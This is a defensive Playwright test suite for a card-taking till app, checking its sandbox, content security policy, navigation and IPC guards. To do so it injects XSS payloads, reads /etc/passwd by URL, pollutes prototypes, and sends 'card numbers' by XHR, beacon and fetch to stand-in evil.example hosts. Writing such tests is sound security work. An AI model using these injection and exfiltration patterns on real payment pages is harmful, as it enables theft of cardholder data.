import { appendFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import type { Page } from 'playwright';
import { type Bridge, type Role, channels } from '../../contract/channels.ts';
import { appearance } from '../../contract/appearance.ts';
import { type RawIpc, compromisedApp, copyOfApp } from './compromised-app.ts';
import { addressOf, launchCounter } from '../host/driver.ts';
import { expect, test } from './connected-till.ts';
import { devicesGranted, grantedTo } from '../host/granted-permissions.ts';
import { startEvilHost } from './evil-host.ts';
import type { Target } from './till.ts';
import type { TillApp } from './till-app.ts';
import { bothPages, insert, logged } from './both-pages.ts';
import { sendsNothingByWebRtc } from './web-rtc.ts';

/** The customer's own screen; null where no second one can be plugged in. */
async function customersPage({ till, counter }: TillApp, target: Target): Promise<Page | null> {
  if (target === 'electron') return null;
  await till.evaluate((wanted) => (window as unknown as { manager: Bridge<'manager'> }).manager.changeAppearance(wanted), { ...appearance.parse({}), customerDisplay: true });
  await counter.screens(2);
  const page = await counter.window('app://display/');
  await page.locator('.amount, h1').first().waitFor();
  return page;
}

/** As the next test finds the till. */
async function takeAwayCustomersPage({ till, counter }: TillApp): Promise<void> {
  await till.evaluate((wanted) => (window as unknown as { manager: Bridge<'manager'> }).manager.changeAppearance(wanted), appearance.parse({}));
  await counter.screens(1);
}

async function browserContextOf(page: Page): Promise<string | undefined> {
  const session = await page.context().newCDPSession(page);
  const { targetInfo } = await session.send('Target.getTargetInfo');
  await session.detach();
  return targetInfo.browserContextId;
}

/** What the contract says that a window's page may call and hear. */
function bridgeOf(role: Role): string[] {
  const heard = Object.keys(channels[role].pushes).map((name) => `on${name[0]!.toUpperCase()}${name.slice(1)}`);
  return [...Object.keys(channels[role].calls), ...heard].toSorted();
}

/** The pages of a register, with a form on the screen. */
type Pages = { readonly till: Page; readonly checkout: Page; readonly display: Page | null };

async function createsEachWindowSafe(app: TillApp, { till, checkout, display }: Pages): Promise<void> {
  const created = (await app.counter.recorded('webContents.created')) as readonly Readonly<Record<string, unknown>>[];
  expect(created.length).toBeGreaterThanOrEqual(2);
  for (const preferences of created) {
    expect(preferences).toMatchObject({
      sandbox: true, contextIsolation: true, webSecurity: true, nodeIntegration: false, nodeIntegrationInSubFrames: false, nodeIntegrationInWorker: false,
      allowRunningInsecureContent: false, experimentalFeatures: false, webviewTag: false, navigateOnDragDrop: false, devTools: false,
    });
    expect(preferences).not.toHaveProperty('enableBlinkFeatures');
  }
  const pages = [till, checkout, ...(display === null ? [] : [display])];
  const contexts = await Promise.all(pages.map(browserContextOf));
  expect(new Set(contexts).size).toBe(pages.length);

  const own = { till: ['till', 'manager'], manager: ['till', 'manager'], checkout: ['checkout'], display: ['display'] } as const;
  const bridged = [[till, 'till'], [till, 'manager'], [checkout, 'checkout'], ...(display === null ? [] : [[display, 'display'] as const])] as const;
  for (const [page, role] of bridged) {
    const { names, kinds, frozen } = await page.evaluate((name) => {
      const bridge = (window as unknown as Record<string, object>)[name]!;
      return { names: Object.keys(bridge), kinds: [...new Set(Object.values(bridge).map((member: unknown) => typeof member))], frozen: Object.isFrozen(bridge) };
    }, role);
    expect(names.toSorted()).toEqual(bridgeOf(role));
    expect(kinds).toEqual(['function']);
    expect(frozen).toBe(true);
    expect(page.frames().length).toBeGreaterThan(role === 'checkout' ? 4 : 0);
    for (const frame of page.frames()) {
      const inside = await frame.evaluate(() => ['require', 'process', 'module', 'global', 'Buffer', 'electron', 'ipcRenderer'].filter((name) => name in window));
      expect(inside).toEqual([]);
      const bridges = await frame.evaluate((wanted) => wanted.filter((name) => name in window), ['till', 'manager', 'checkout', 'display']);
      expect(bridges).toEqual(frame === page.mainFrame() ? own[role] : []);
    }
  }
}

async function grantsNothing(app: TillApp, pages: readonly Page[], target: Target): Promise<void> {
  for (const page of pages) {
    for (const frame of page.frames()) {
      expect(await grantedTo(frame)).toEqual([]);
    }
    const attempts = await page.evaluate(async () => {
      const outcome = (attempt: Promise<unknown>) => attempt.then(() => 'granted', (error: unknown) => (error instanceof Error ? error.name : String(error)));
      return {
        place: await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), ({ code }) => resolve(code))),
        notification: await Notification.requestPermission(),
        camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
        clipboard: await outcome(navigator.clipboard.readText()),
        files: 'showOpenFilePicker' in window ? await outcome((window as unknown as { showOpenFilePicker(): Promise<unknown> }).showOpenFilePicker()) : 'absent',
      };
    });
    expect(attempts).toMatchObject({ place: 1, notification: 'denied' });
    for (const refused of [attempts.camera, attempts.clipboard, attempts.files]) expect(refused).not.toBe('granted');
  }
  if (target === 'chromium-host') {
    const devices = await devicesGranted(app.counter);
    expect(devices.asked).toBeGreaterThan(0);
    expect(devices.granted).toEqual([]);
  }
}

async function runsNothing(app: TillApp, pages: readonly Page[]): Promise<void> {
  for (const page of pages) {
    const violated = await page.evaluate(async () => {
      const directives = new Set<string>();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective));
      const tried = (attempt: () => unknown) => {
        try {
          return attempt();
        } catch {
          return undefined;
        }
      };
      const put = (name: string, values: Readonly<Record<string, string>>) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(values)) tried(() => ((element as unknown as Record<string, string>)[key] = value));
        document.body.append(element);
        return element;
      };
      const run = 'window.injected = true';
      put('script', { textContent: run });
      put('script', { src: 'https://script.evil.example/x.js' });
      put('div', { innerHTML: `<img src=x onerror="${run}">` });
      const clicked = put('i', {});
      tried(() => clicked.setAttribute('onclick', run));
      clicked.click();
      put('img', { src: 'https://img.evil.example/x.png' });
      put('iframe', { src: 'https://frame.evil.example/' });
      put('style', { textContent: 'body { display: none }' });
      put('link', { rel: 'stylesheet', href: 'https://style.evil.example/x.css' });
      put('base', { href: 'https://base.evil.example/' });
      put('object', { data: 'https://object.evil.example/' });
      // Not in this evaluation itself: DevTools' own code may use eval.
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          // oxlint-disable-next-line no-eval -- that it is refused is what is tested
          tried(() => (0, eval)(run));
          // oxlint-disable-next-line typescript/no-implied-eval -- as above
          tried(() => new Function(run)());
          resolve();
        });
      });
      const elsewhere: string = 'https://module.evil.example/x.js';
      await import(elsewhere).catch(() => undefined);
      const request = new XMLHttpRequest();
      request.open('POST', 'https://connect.evil.example/');
      const sent = new Promise((resolve) => request.addEventListener('loadend', resolve));
      tried(() => request.send('card numbers'));
      await sent;
      tried(() => navigator.sendBeacon('https://beacon.evil.example/', 'card numbers'));
      tried(() => new WebSocket('wss://socket.evil.example/'));
      tried(() => new Worker(URL.createObjectURL(new Blob([run]))));
      await fetch('https://fetch.evil.example/').catch(() => undefined);
      // Refused by another process of Chromium, which reports it later.
      while (!directives.has('frame-src')) await new Promise((resolve) => setTimeout(resolve, 10));
      return { directives: [...directives].toSorted(), injected: 'injected' in window };
    });
    expect(violated).toEqual({
      directives: ['base-uri', 'connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-elem'],
      injected: false,
    });
  }
  // Nothing came as far as the request filter, which is the next wall.
  expect(logged(app, 'window.request-refused')).toEqual([]);
  // The checkout page's own guard in front of fetch tells main of it as well.
  expect(logged(app, 'checkout-page.request-refused')).toEqual(['{"detail":"https://fetch.evil.example"}']);
}

async function leadsNowhere(app: TillApp, pages: readonly [till: Page, checkout: Page]): Promise<void> {
  const openedBefore = await app.counter.recorded('shell.openExternal');
  const { port } = new URL(pages[1].url());
  const navigate = (page: Page, url: string) =>
    page.evaluate((to) => {
      location.href = to;
    }, url);

  for (const page of pages) {
    const role = page === pages[0] ? 'till' : 'checkout';
    const address = page.url();
    const title = await page.title();
    const refused = [
      `http://localhost.evil.example/${role}`,
      `http://localhost:${port}@evil.example/${role}`,
      `http://127.0.0.1:${port}/${role}`,
      `http://localhost:${port}/${role}`,
      `http://[::1]:1/${role}`,
      `https://components.justifi.ai.evil.example/${role}`,
      `https://components.justifi.ai@evil.example/${role}?secret=in-the-query`,
      `app://other/${role}`,
      `app://till.evil.example/${role}`,
    ];
    // The address without what the log must not carry: names in front of the host, queries.
    const line = (url: string) => `{"url":"${url.replace(/^(https?:\/\/)[^/@]*@/u, '$1').replace(/\?.*$/u, '')}"}`;
    const expectRefused = (what: string, url: string) => expect.poll(() => logged(app, what).filter((each) => each === line(url))).toHaveLength(1);
    for (const url of refused) {
      const before = logged(app, 'window.navigation-refused').length;
      await navigate(page, url);
      await expect.poll(() => logged(app, 'window.navigation-refused').slice(before)).toEqual([line(url)]);
    }
    // Chromium itself or the page's policy stops these, so no guard hears of them.
    for (const url of ['file:///etc/passwd', 'javascript:document.title="taken over"', 'data:text/html,taken over']) await navigate(page, url);
    await insert(page, 'form', { action: `http://form-${role}.evil.example/`, method: 'post' }, 'submit');
    await insert(page, 'a', { href: `http://link-${role}.evil.example/` }, 'click');
    await expectRefused('window.navigation-refused', `http://link-${role}.evil.example/`);
    await insert(page, 'meta', { 'http-equiv': 'refresh', content: `0;url=http://meta-${role}.evil.example/` });
    await expectRefused('window.navigation-refused', `http://meta-${role}.evil.example/`);
    await insert(page, 'a', { href: `http://new-${role}.evil.example/`, target: '_blank' }, 'click');
    await expectRefused('window.open-refused', `http://new-${role}.evil.example/`);
    await page.evaluate((url) => window.open(url, 'pop-up', 'width=300,height=200'), `http://opened-${role}.evil.example/`);
    await expectRefused('window.open-refused', `http://opened-${role}.evil.example/`);
    const file = await page.evaluate(() => URL.createObjectURL(new Blob(['card numbers'])));
    await insert(page, 'a', { href: file, download: 'cards.txt' }, 'click');
    await expect.poll(() => logged(app, 'window.download-refused')).toContain(`{"role":"${role}"}`);
    expect(page.url()).toBe(address);
    expect(await page.title()).toBe(title);
  }
  // Counter's own windows come and go; no other stays.
  await expect.poll(() => app.counter.windows().map(addressOf).filter((address) => !/^(app:\/\/till|http:\/\/localhost:\d+)\/$/u.test(address))).toEqual([]);
  for (const never of ['form-till', 'form-checkout', 'in-the-query', 'taken over', 'passwd']) expect(app.log()).not.toContain(never);
  expect((await app.counter.recorded('shell.openExternal')).slice(openedBefore.length)).toEqual([]);
}

test('S-10, S-11, S-12, A-05, S-04, S-13: with a form on the screen, no page is more than a window of its own, with its own bridge', async ({ runningApp: app, target }) => {
  const display = await customersPage(app, target);
  const both = await bothPages(app);
  const [till, checkout] = both;
  await test.step('S-10, S-11: each window is created safe, in a session of its own, with exactly its own bridge', () => createsEachWindowSafe(app, { till, checkout, display }));
  await test.step('S-12: no page has a permission', () => grantsNothing(app, display === null ? both : [...both, display], target));
  if (display !== null) await takeAwayCustomersPage(app);
  await test.step('A-05: neither the till, the form nor a card field sends a byte by WebRTC, over TCP or TLS', () => sendsNothingByWebRtc(app, checkout));
  await test.step('S-04: code put into either page does not run and reaches no server', () => runsNothing(app, both));
  // It spends the pages.
  await test.step('S-13: neither page leads anywhere: not by a link, a form, a script, a new window or a download', () => leadsNowhere(app, both));
});

test('S-14, S-04: a page that was taken over reaches main only through the calls of its own window, and no host at all; each try is logged', async ({ target, openTill }, info) => {
  const evil = await startEvilHost();
  const app = await openTill({ ...compromisedApp(info.outputPath('app')), chromium: undefined, chromiumArgs: evil.chromiumArgs });
  const display = await customersPage(app, target);
  const [till, checkout] = await bothPages(app);
  const REFUSED = { kind: 'failed', failure: { kind: 'refused' } };
  const invoke = (page: Page, channel: string, ...args: unknown[]) =>
    // As text: Playwright would not carry a field of the name __proto__.
    page.evaluate(
      ([name, json]) => (window as unknown as { raw: RawIpc }).raw.invoke(name, ...(JSON.parse(json) as unknown[])).catch((error: unknown) => `rejected: ${String(error)}`),
      [channel, JSON.stringify(args)] as const,
    );
  const { sales } = app.journal();
  const { id: saleId } = sales.at(-1)!;

  const callsOf = (...roles: readonly Role[]) => roles.flatMap((role) => Object.keys(channels[role].calls).map((name) => `${role}:${name}`));
  if (display !== null) {
    const notTheCustomers = callsOf('till', 'manager', 'checkout');
    for (const channel of notTheCustomers) expect(await invoke(display, channel, { saleId })).toEqual(REFUSED);
    expect(logged(app, 'ipc.refused')).toEqual(notTheCustomers.map((channel) => `{"channel":"${channel}","why":"window is display"}`));
  }
  const refusedBefore = logged(app, 'ipc.refused').length;
  const notItsOwn = callsOf('till', 'manager', 'display');
  for (const channel of notItsOwn) {
    expect(await invoke(checkout, channel, { saleId, amountInCents: 100, description: 'Stolen' })).toEqual(REFUSED);
  }
  expect(logged(app, 'ipc.refused').slice(refusedBefore)).toEqual(notItsOwn.map((channel) => `{"channel":"${channel}","why":"window is checkout"}`));
  for (const name of Object.keys(channels.checkout.calls)) expect(await invoke(till, `checkout:${name}`, { checkoutId: sales.at(-1)!.checkout_id })).toEqual(REFUSED);
  expect(logged(app, 'ipc.refused').slice(-1)).toEqual(['{"channel":"checkout:trouble","why":"window is till and manager"}']);

  const proto = JSON.parse(`{"saleId":"${saleId}","__proto__":{"amountInCents":1}}`) as object;
  for (const args of [[], [null], ['charge'], [{ saleId }, { saleId }], [{ saleId, more: 1 }], [{ saleId: { toString: 1 } }], [proto], [[saleId]]]) {
    expect(await invoke(till, 'till:goBack', ...args)).toEqual(REFUSED);
  }
  // The same refusal again is counted, not written again.
  expect(logged(app, 'ipc.refused').slice(-2)).toEqual(['input does not parse', 'more than one argument'].map((why) => `{"channel":"till:goBack","why":"${why}"}`));
  // Not in the contract: no handler listens.
  for (const channel of ['till:secret', 'till:__proto__', 'till:constructor', '__proto__', 'toString', '', 'till:charge ']) {
    expect(await invoke(till, channel, { saleId })).toMatch(/^rejected: .*No handler registered/u);
  }
  await till.evaluate((id) => {
    const { raw } = window as unknown as { raw: RawIpc };
    for (const name of ['till:goBack', 'till:newSale', 'error']) raw.send(name, { saleId: id });
  }, saleId);

  // No policy holds in here any more: the request filter is the last wall, and it keeps a record.
  const field = checkout.frames().find((frame) => frame.name() === 'cardNumber')!;
  const places = [['till', till.mainFrame(), 'till'], ['form', checkout.mainFrame(), 'checkout'], ['field', field, 'checkout'], ...(display === null ? [] : [['customer', display.mainFrame(), 'display'] as const])] as const;
  for (const [place, frame, role] of places) {
    await frame.evaluate(async (name) => {
      const script = document.createElement('script');
      script.src = `https://${name}-script.evil.example/x.js`;
      document.head.append(script);
      new Image().src = `https://${name}-image.evil.example/card?number=4242`;
      const inner = document.createElement('iframe');
      inner.src = `https://${name}-frame.evil.example/`;
      document.body.append(inner);
      const request = new XMLHttpRequest();
      request.open('POST', `https://${name}-request.evil.example/`);
      request.send('card numbers');
    }, place);
    for (const what of ['script', 'image', 'frame', 'request']) {
      await expect.poll(() => logged(app, 'window.request-refused').filter((line) => line.startsWith(`{"role":"${role}","url":"https://${place}-${what}.evil.example/`))).toHaveLength(1);
    }
  }
  expect(evil.visits).toEqual([]);
  // S-05: what the page that takes cards has tried is told to the manager too.
  for (const what of ['script GET form-script', 'image GET form-image', 'subFrame GET form-frame', 'xhr POST form-request', 'script GET field-script']) {
    expect(logged(app, 'page.changed')).toContain(`{"what":"request: ${what}.evil.example"}`);
  }
  expect(app.log()).not.toContain('number=4242');
  await field.evaluate(() => {
    top!.location.href = 'https://top.evil.example/';
  });
  await expect.poll(() => logged(app, 'window.navigation-refused')).toContain('{"url":"https://top.evil.example/"}');

  // Reports about another checkout move nothing; asking to submit another one ends the form, and nothing was charged.
  expect(await invoke(checkout, 'checkout:goBack', { checkoutId: 'cho_other' })).toEqual({ kind: 'ok', value: null });
  await expect(till.locator('#root').getByText('Ready for the card.')).toBeVisible();
  void invoke(checkout, 'checkout:submit', { checkoutId: 'cho_other', componentAmountInCents: null, methodType: 'new_card', isAuthorisationShown: false }).catch(() => undefined);
  await expect(till.getByRole('note')).toHaveText(/^The amount changed on the way\. Nothing was charged\./u);
  expect(app.journal().events.map(({ kind }) => kind)).not.toContain('submit-allowed');
  evil.close();
});

test('S-05: a Counter whose page was changed on the disk says so and stops, before a card could be typed into it', async ({ target, userData, chromium }, info) => {
  test.skip(target === 'electron', 'only the stand-in runs a copy from any folder');
  const copy = copyOfApp(info.outputPath('app'));
  appendFileSync(join(copy.appPath, 'out/renderer/checkout/checkout.js'), ';/* one byte would do */');
  const counter = await launchCounter({ target, chromium, userData, ...copy });
  expect((await counter.exited).code).toBe(1);
  expect(await counter.recorded('dialog.showErrorBox')).toEqual([{ title: 'Counter cannot start', content: 'Counter’s own files were changed. Take no card with it. Install Counter again, then start it.' }]);
  expect(readFileSync(join(userData, 'counter.log'), 'utf8')).toContain('error page.not-as-built {"files":"checkout/checkout.js"}');
  const audit = new DatabaseSync(join(userData, 'audit.db'));
  expect(audit.prepare(`SELECT event FROM entry WHERE event LIKE '%"page-changed"%checkout/checkout.js%'`).all()).toHaveLength(1);
  audit.close();
});
